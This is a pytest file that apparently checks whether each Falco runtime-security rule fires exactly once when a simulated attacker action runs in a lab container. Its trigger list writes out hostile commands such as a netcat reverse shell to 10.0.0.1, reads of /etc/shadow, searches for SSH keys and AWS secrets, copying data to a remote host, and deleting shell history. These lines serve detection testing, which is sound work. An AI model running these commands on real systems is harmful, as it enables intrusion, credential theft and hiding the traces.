# SPDX-License-Identifier: Apache-2.0
"""Falco's own rule files, unchanged from the user's disk: of each rule a deed that it finds, once.

TAFFRAIL_FALCO_RULES names a folder with the files; nothing of them is in this tree but the names of their rules.
"""
import os
import re

import pytest

from deeds import Deed, judged

FOLDER = os.environ.get("TAFFRAIL_FALCO_RULES", "")
FILES = [os.path.join(FOLDER, name) for name in ("falco_rules.yaml", "falco-incubating_rules.yaml")] if FOLDER else []

pytestmark = pytest.mark.skipif(not FILES or not all(map(os.path.exists, FILES)),
                                reason="TAFFRAIL_FALCO_RULES names no folder with Falco's rule files")

# What a user does to have all rules: those that ask for a choice get one.
CHOICES = """
- list: namespace_scope_network_only_subnet
  items: [shop]
  override: {items: append}
"""

DEEDS = [
    # --- stable
    Deed("Directory traversal monitored file read", "/d/application open r+ /srv/www/../../etc/group"),
    Deed("Read sensitive file trusted after startup", "/d/nginx after 5100 open r+ /etc/shadow"),
    Deed("Read sensitive file untrusted", "/d/application open r+ /etc/shadow"),
    Deed("Run shell untrusted", "/d/nginx spawn /bin/sh -c :"),
    Deed("System user interactive", "/d/sshd spawn /d/application", where="service"),
    Deed("Terminal shell in container", "/bin/sh -c :", where="terminal"),
    Deed("Netcat Remote Code Execution in Container", "/d/nc -e /bin/sh 10.0.0.1 4444"),
    Deed("Search Private Keys or Passwords", "/bin/find /srv -name id_rsa"),
    Deed("Clear Log Activities", "/d/deed open t+ /var/log/syslog", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/syslog")),
    Deed("Remove Bulk Data from Disk", "/d/shred -u /tmp/file"),
    Deed("Create Symlink Over Sensitive Files", "/d/deed symlink /etc/shadow /tmp/soft"),
    Deed("Create Hardlink Over Sensitive Files", "/d/deed link /etc/shadow /tmp/hard"),
    Deed("Packet socket created in container", "/d/deed socket packet"),
    Deed("Redirect STDOUT/STDIN to Network Connection in Container", "/d/deed as-descriptor 0"),
    Deed("Linux Kernel Module Injection Detected", "/d/deed module", where="privileged"),
    Deed("Debugfs Launched in Privileged Container", "/d/debugfs", where="privileged"),
    Deed("Detect release_agent File Container Escapes", "/d/deed open c+ /tmp/release_agent", where="privileged"),
    Deed("PTRACE attached to process", "/d/deed ptrace attach"),
    Deed("PTRACE anti-debug attempt", "/d/deed ptrace me"),
    Deed("Find AWS Credentials", "/bin/grep -r aws_secret_access_key /srv"),
    Deed("Execution from /dev/shm", "/bin/sh /dev/shm/script", ("/d/deed open c+ /dev/shm/script",)),
    Deed("Drop and execute new binary in container", "/tmp/dropped", ("/d/deed copy /d/deed /tmp/dropped",)),
    Deed("Disallowed SSH Connection Non Standard Port", "/d/ssh call 203.0.113.9 443"),
    Deed("Contact K8S API Server From Container", "/d/deed call-by-name kubernetes.default.svc.cluster.local 10.96.0.1 443"),
    Deed("Fileless execution via memfd_create", "/d/deed from-memory nothing"),
    # --- incubating
    Deed("Modify Shell Configuration File", "/d/deed open c+ /root/.bashrc"),
    Deed("Schedule Cron Jobs", "/d/crontab -"),
    Deed("Read ssh information", "/d/deed open r+ /root/.ssh/config", ("/bin/mkdir -p /root/.ssh", "/d/deed open c+ /root/.ssh/config")),
    Deed("DB program spawned process", "/d/mysqld spawn /d/id"),
    Deed("Change thread namespace", "/d/deed setns /proc/self/ns/uts"),
    Deed("Change namespace privileges via unshare", "/d/deed unshare user"),
    Deed("Launch Privileged Container", "/bin/true", where="first-privileged"),
    Deed("Launch Excessively Capable Container", "/bin/true", where="first-privileged"),
    Deed("System procs network activity", "/d/cat call 203.0.113.9 80"),
    Deed("Program run with disallowed http proxy env", "/bin/env HTTP_PROXY=http://10.0.0.1 /d/curl http://page"),
    Deed("Unexpected UDP Traffic", "/d/deed call-datagram 203.0.113.9 5555"),
    Deed("Non sudo setuid", "/d/deed setuid 1000", where="user"),
    Deed("User mgmt binaries", "/d/useradd somebody", where="host"),
    Deed("Create files below dev", "/d/deed open c+ /dev/kept"),
    Deed("Contact EC2 Instance Metadata Service From Container", "/d/deed call 169.254.169.254 80"),
    Deed("Contact cloud metadata service from container", "/d/deed call 169.254.169.254 80"),
    Deed("Launch Package Management Process in Container", "/d/apt-get install something"),
    Deed("Launch Suspicious Network Tool in Container", "/d/nmap -sS 10.0.0.1"),
    Deed("Launch Suspicious Network Tool on Host", "/d/nmap -sS 10.0.0.1", where="host"),
    Deed("Delete or rename shell history", "/d/deed unlink /root/.bash_history", ("/d/deed open c+ /root/.bash_history",)),
    Deed("Set Setuid or Setgid bit", "/d/deed chmod 4755 /tmp/program", ("/d/deed open c+ /tmp/program",)),
    Deed("Launch Remote File Copy Tools in Container", "/d/rsync -a /srv 10.0.0.1:"),
    Deed("Network Connection outside Local Subnet", "/d/deed call 203.0.113.9 80"),
    Deed("Mount Launched in Privileged Container", "/d/mount /dev/none /mnt", where="privileged"),
    Deed("Launch Ingress Remote File Copy Tools in Container", "/d/curl -O http://page"),
    Deed("Read environment variable from /proc files", "/d/deed look-into environ"),
    Deed("Exfiltrating Artifacts via Kubernetes Control Plane", "/d/tar open r+ /srv/www/index.html", where="exec"),
    Deed("Adding ssh keys to authorized_keys", "/d/deed open c+ /root/.ssh/authorized_keys", ("/bin/mkdir -p /root/.ssh",)),
    Deed("Potential Local Privilege Escalation via Environment Variables Misuse", "/bin/env GLIBC_TUNABLES=x /d/application"),
    Deed("Backdoored library loaded into SSHD (CVE-2024-3094)", "/d/sshd open r+ /tmp/liblzma.so.5.6.1", ("/d/deed open c+ /tmp/liblzma.so.5.6.1",)),
    Deed("BPF Program Not Profiled", "/d/deed bpf load"),
]


def rules_of(files):
    names = []
    for path in files:
        if os.path.exists(path):
            with open(path, encoding="utf-8") as file:
                names += re.findall(r"^- rule: *(.*?) *$", file.read(), re.M)
    return names


@pytest.fixture(scope="module")
def outcome(runtime, lab, socket_path, tmp_path_factory):
    """All deeds are done; of each rule the nonce and the exit code of its deed, and the findings."""
    choices = tmp_path_factory.mktemp("rules") / "choices.yaml"
    enabled = "".join(f"- rule: {rule}\n  enabled: true\n  override: {{enabled: replace}}\n" for rule in rules_of(FILES))
    choices.write_text(CHOICES + enabled, encoding="utf-8")
    options = [word for path in (*FILES, str(choices)) for word in ("--rules", path)]
    outside = [deed for deed in DEEDS if deed.where == "host"]
    inside = [deed for deed in DEEDS if deed.where != "host"]
    told = {}
    # Of what is done outside containers only execs, for the rest of the machine does much.
    with judged(outside, lab, socket_path, runtime, *options, "--host", "--config", config_for_the_host(tmp_path_factory)) as (done, findings):
        told.update({deed.rule: (*which, findings) for deed, which in zip(outside, done)})
    with judged(inside, lab, socket_path, runtime, *options, "--set", "exec.environment=true") as (done, findings):
        told.update({deed.rule: (*which, findings) for deed, which in zip(inside, done)})
    return told


def config_for_the_host(tmp_path_factory):
    config = tmp_path_factory.mktemp("host") / "sensor.yaml"
    config.write_text("record:\n  kinds: [exec]\n", encoding="ascii")
    return str(config)


@pytest.mark.parametrize("rule", rules_of(FILES) or ["(none)"])
def test_rule_finds_its_deed_once(outcome, rule):
    nonce, code, findings = outcome[rule]
    found = findings.of(nonce, rule)
    assert len(found) == 1, (code, sorted(document["rule"]["name"] for document in findings.of(nonce)))
    document = found[0]
    assert document["event"]["kind"] == "alert" and document["message"] and document["rule"]["ruleset"]
    assert document["tags"] and document["taffrail"]["rule"]["output_fields"] and document["taffrail"]["rule"]["priority"]
